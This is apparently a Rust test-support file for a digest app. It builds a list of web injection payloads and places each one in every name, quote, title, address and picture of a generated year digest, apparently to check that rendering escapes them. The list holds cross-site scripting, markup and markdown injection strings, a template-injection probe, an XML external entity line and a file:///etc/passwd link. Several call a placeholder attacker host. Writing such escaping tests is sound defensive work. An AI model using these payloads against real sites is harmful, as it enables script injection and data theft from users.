//! Words that want to be more than words, in every place of a digest that holds any.

use upto::domain::decision::{Decision, DecisionKind};
use upto::domain::digest::{Compared, Digest, Planned, Quote, Shelved};
use upto::domain::id::EntryId;
use upto::domain::picture::{Album, Shown};
use upto::domain::statement::Statement;

use super::lives;
use crate::support::pictures;

/// What is said in each place, with the address of somebody who waits for a request.
pub fn payloads(evil: &str) -> Vec<String> {
    [
        "<script>fetch('EVIL/a')</script>",
        "</title><script src=EVIL/b></script>",
        "\"><img src=EVIL/c onerror=alert(1)>",
        "' onmouseover='location=\"EVIL/d\"' x='",
        "\" style=\"background:url(EVIL/e)",
        "</style><style>@import url(EVIL/f);</style>",
        "</svg><svg onload=alert(1)><image href=EVIL/g />",
        "<svg><use href=\"EVIL/h#x\"/><foreignObject><iframe src=EVIL/i>",
        "<link rel=stylesheet href=EVIL/j><link rel=prefetch href=EVIL/k>",
        "<base href=EVIL/l>",
        "<meta http-equiv=refresh content=\"0;url=EVIL/m\">",
        "<form action=EVIL/n><button>x</button></form><input autofocus onfocus=alert(1)>",
        "<!-- <p title=\"--><img src=EVIL/o>\">",
        "<plaintext><textarea></textarea><noscript><p title=\"</noscript><img src=EVIL/p>\">",
        "<math><mtext></form><form><mglyph><style></math><img src=EVIL/q>",
        "<video poster=EVIL/r><source src=EVIL/s></video><object data=EVIL/t><embed src=EVIL/u>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=EVIL/v&#62;",
        "{{ 7 * 7 }}{% include 'x' %}{# EVIL/w #}",
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](\u{1}javascript:alert(1)) [d](java\tscript:x)",
        "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)",
        "![a](EVIL/x.png) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[a](EVIL/y\"onmouseover=\"alert(1)) <EVIL/z> EVIL/'onclick=alert(1)",
        "[a]: EVIL/aa\n[a] [a][a] ![a]",
        "`<img src=EVIL/bb>` **<img src=EVIL/cc>** ~~<b onclick=x>~~",
        "\0<\0script>\u{feff}<scr\u{200b}ipt> \u{202e}<tpircs> ﹤script﹥ ＜script＞",
        "]]><![CDATA[<script>x</script>]]> <?php x ?> <!ENTITY x SYSTEM \"EVIL/dd\">",
    ]
    .map(|payload| payload.replace("EVIL", evil))
    .to_vec()
}

/// A year in which every name, quote and title is `said`; each address is it, too.
pub fn year(said: &str) -> Digest {
    let (quote, name) = (lives::quote("2025-03-03", said), said.to_owned());
    let quotes = || -> Vec<Quote> { vec![quote.clone(); 2] };
    let mut year = lives::software();
    year.name = Some(name.clone());
    year.period.label.clone_from(&name);
    let shelf: Vec<Shelved> = [said, "https://a.example/"]
        .map(|url| Shelved {
            url: url.to_owned(),
            title: name.clone(),
            interest: Some(name.clone()),
            date: lives::date("2025-03-03"),
            entry: EntryId(1),
        })
        .to_vec();
    for era in &mut year.eras {
        era.name = Some(said.into());
        era.interests = vec![name.clone(); 3];
        (era.why, era.did) = (quotes(), quotes());
        (era.highlights, era.turning_points) = (quotes(), quotes());
        era.resources.clone_from(&shelf);
    }
    for thread in &mut year.interests {
        thread.name.clone_from(&name);
        thread.also = vec![name.clone()];
        thread.why = Some(quote.clone());
        (thread.first_words, thread.last_words) = (Some(quote.clone()), Some(quote.clone()));
    }
    for lane in &mut year.timeline.lanes {
        lane.interest.clone_from(&name);
    }
    year.summary = vec![Statement::Unexplained(vec![name.clone()])];
    year.trends = vec![lives::back(said)];
    year.decisions = [None, Some(name.clone())]
        .map(|to| Decision {
            interest: name.clone(),
            kind: DecisionKind::Pivot,
            date: lives::date("2025-03-03"),
            reason: Some(said.into()),
            to,
        })
        .to_vec();
    year.resources = shelf;
    (year.lessons, year.gratitude, year.next) = (quotes(), quotes(), quotes());
    year.compared = Some(Compared {
        before: year.period.clone(),
        entries: 3,
        new: vec![name.clone()],
        kept: vec![name.clone()],
        gone: vec![name],
    });
    year.planned = vec![Planned { plan: quote.clone(), taken_up: Some(quote) }];
    year
}

/// A picture of each kind with `said` under it and inside it.
pub fn album(year: &Digest, said: &str) -> Album {
    let shown = |number| Shown {
        date: year.eras[0].from,
        words: said.into(),
        // A PNG holds no words but those of Latin 1.
        picture: pictures::any(number, if number == 0 { "words" } else { said }),
    };
    Album { pictures: (0..4).map(shown).collect(), left_out: 1 }
}
